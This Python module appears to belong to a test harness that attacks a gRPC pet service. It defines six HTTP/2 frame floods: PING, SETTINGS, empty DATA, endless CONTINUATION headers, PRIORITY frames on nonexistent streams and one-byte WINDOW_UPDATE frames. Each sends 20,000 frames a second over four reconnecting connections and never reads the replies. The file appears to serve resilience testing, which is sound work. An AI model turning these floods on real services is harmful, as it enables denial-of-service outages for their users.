"""Frames of HTTP/2 that ask for nothing, on four connections, which are made again when they are ended."""

import asyncio
from collections.abc import Callable, Iterator
from functools import partial

from attacks.attack import Attack, Scene
from attacks.http2 import Connection, frame, grpc_fields, opened

__all__ = ["ATTACKS"]

_METHOD = "/pawport.v1.PetService/CreatePet"
_CONNECTIONS = 4
_TICK = 0.02  # seconds
_RATE = 20_000  # frames a second

Frames = Callable[[Scene, Connection], Iterator[bytes]]
"""What is sent on a connection: first what begins it, and then the frame that is repeated, for ever."""


async def _flood(scene: Scene, frames: Frames) -> None:
    await asyncio.gather(*(_sender(scene, size, frames) for size in scene.shares(_CONNECTIONS)))


async def _sender(scene: Scene, each_second: int, frames: Frames) -> None:
    while not scene.over:
        try:
            async with opened(scene, reads=False) as connection:
                scene.counts["connections"] += 1
                await _send(scene, connection, frames(scene, connection), int(each_second * _TICK))
        except OSError as error:
            scene.not_connected(error)
            await asyncio.sleep(0.1)


async def _send(scene: Scene, connection: Connection, frames: Iterator[bytes], number: int) -> None:
    """Until the service closes the connection. If it reads no more, the rest is not sent."""
    connection.send(next(frames))
    while not (scene.over or connection.closed):
        connection.send(next(frames) * number)
        scene.counts["sent"] += number
        try:
            async with asyncio.timeout(max(0.1, scene.remaining)):
                await connection.drain()
        except TimeoutError:
            scene.counts["not read"] += 1
            return
        await asyncio.sleep(_TICK)


def _same(raw: bytes, first: bytes = b"") -> Iterator[bytes]:
    yield first
    while True:
        yield raw


def _pings(_: Scene, __: Connection) -> Iterator[bytes]:
    """Each asks for an acknowledgement, which is not read."""
    return _same(frame(6, 0, 0, bytes(8)))


def _settings(_: Scene, __: Connection) -> Iterator[bytes]:
    """Each asks for an acknowledgement, which is not read."""
    return _same(frame(4, 0, 0))


def _empty_data(scene: Scene, connection: Connection) -> Iterator[bytes]:
    """The body of a call that is made of frames with nothing in them."""
    stream = connection.open_stream(grpc_fields(scene, _METHOD))
    return _same(frame(0, 0, stream))


def _continuations(scene: Scene, connection: Connection) -> Iterator[bytes]:
    """The headers of a call that never end. What is repeated is a field "a: b" that no table keeps."""
    stream = connection.new_stream()
    block = connection.headers(grpc_fields(scene, _METHOD))
    return _same(frame(9, 0, stream, b"\x00\x01a\x01b"), first=frame(1, 0, stream, block))


def _priorities(_: Scene, __: Connection) -> Iterator[bytes]:
    """Of streams that are not there."""
    return _same(frame(2, 0, 1_000_001, bytes(5)))


def _window_updates(_: Scene, __: Connection) -> Iterator[bytes]:
    """A byte each."""
    return _same(frame(8, 0, 0, b"\0\0\0\1"))


_KINDS: dict[str, tuple[str, Frames]] = {
    "pings": ("PING", _pings),
    "settings": ("SETTINGS", _settings),
    "empty-data": ("empty DATA", _empty_data),
    "continuations": ("CONTINUATION", _continuations),
    "priorities": ("PRIORITY", _priorities),
    "window-updates": ("WINDOW_UPDATE", _window_updates),
}

ATTACKS = [
    Attack(
        name,
        f"20,000 frames of {what} a second on 4 connections",
        partial(_flood, frames=frames),
        _RATE,
        a_second=True,
        seconds=4,
    )
    for name, (what, frames) in _KINDS.items()
]
